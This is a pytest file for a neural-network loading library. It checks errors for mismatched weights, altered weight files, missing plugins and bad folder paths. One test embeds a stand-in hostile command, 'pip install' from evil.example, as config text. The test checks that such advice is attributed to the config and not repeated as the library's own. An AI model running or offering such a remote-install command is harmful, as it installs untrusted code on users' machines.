"""A folder that is not what it says is one error, which names both sides."""

import json

import pytest
import torch
from safetensors.torch import load_file, save_file
from saved import small_model

import unetzoo


def _change(folder, **values):
    path = folder / "config.json"
    path.write_text(json.dumps(json.loads(path.read_text()) | values))


def _resave(folder, change):
    """Other tensors, without the digest that would tell."""
    state = load_file(folder / "model.safetensors")
    change(state)
    save_file(state, folder / "model.safetensors")
    _change(folder, weights={})


def test_a_missing_an_unexpected_and_a_differing_tensor_are_named_with_both_sides(saved):
    def change(state):
        state["heads.0.extra"] = torch.zeros(2)
        state["heads.0.weight"] = torch.zeros(3, 16, 1, 1)
        del state["heads.0.bias"]

    _resave(saved, change)
    with pytest.raises(unetzoo.WeightsError) as error:
        unetzoo.load(saved)
    assert str(error.value) == (
        "the weights are not those of this network: 1 missing in the file: heads.0.bias; "
        "1 not in the network of this configuration: heads.0.extra; "
        "1 different: heads.0.weight (network [2, 16, 1, 1] float32, file [3, 16, 1, 1] F32)"
    )


def test_whole_numbers_where_weights_are_due_are_refused(saved):
    def change(state):
        state["heads.0.bias"] = torch.zeros(2, dtype=torch.int64)

    _resave(saved, change)
    with pytest.raises(
        unetzoo.WeightsError, match=r"1 different: heads.0.bias \(network \[2\] float32, file \[2\] I64\)"
    ):
        unetzoo.load(saved)


def test_another_file_than_the_saved_one_is_refused(saved):
    state = load_file(saved / "model.safetensors")
    state["heads.0.bias"] += 1
    save_file(state, saved / "model.safetensors")
    with pytest.raises(
        unetzoo.WeightsError, match=r"model.safetensors is not the file that was saved with this config"
    ):
        unetzoo.load(saved)


def test_a_missing_plugin_is_named_with_the_distribution_that_had_it(saved):
    _change(saved, decoder="cloudnet", providers={"encoder": "unetzoo 0.1", "decoder": "unetzoo-cloud 2.1"})
    with pytest.raises(
        unetzoo.UnknownNameError, match=r"no decoder named 'cloudnet'.*decoder of 'unetzoo-cloud 2.1': install it"
    ):
        unetzoo.load(saved)


def test_advice_of_whoever_wrote_the_configuration_is_not_given_as_ours(saved):
    words = "install it: pip install https://evil.example/x.whl"
    _change(saved, decoder="cloudnet", providers={"decoder": words})
    with pytest.raises(unetzoo.UnknownNameError, match=rf"config.json says that it has the decoder of '{words}'$"):
        unetzoo.load(saved)


def test_a_folder_that_is_not_there_or_no_network_is_one_error(tmp_path):
    for name in ("nothing", "x" * 300, "a\0b"):
        with pytest.raises(unetzoo.OptionError, match="there is no folder"):
            unetzoo.load(tmp_path / name)
    with pytest.raises(unetzoo.ConfigError, match=r"there is no config.json in .*: not a folder of a saved network"):
        unetzoo.load(tmp_path)


def test_a_file_in_the_place_of_the_folder_is_one_error(tmp_path):
    (tmp_path / "file").write_text("")
    with pytest.raises(unetzoo.OptionError, match="cannot save into the folder"):
        unetzoo.save(small_model(), tmp_path / "file")
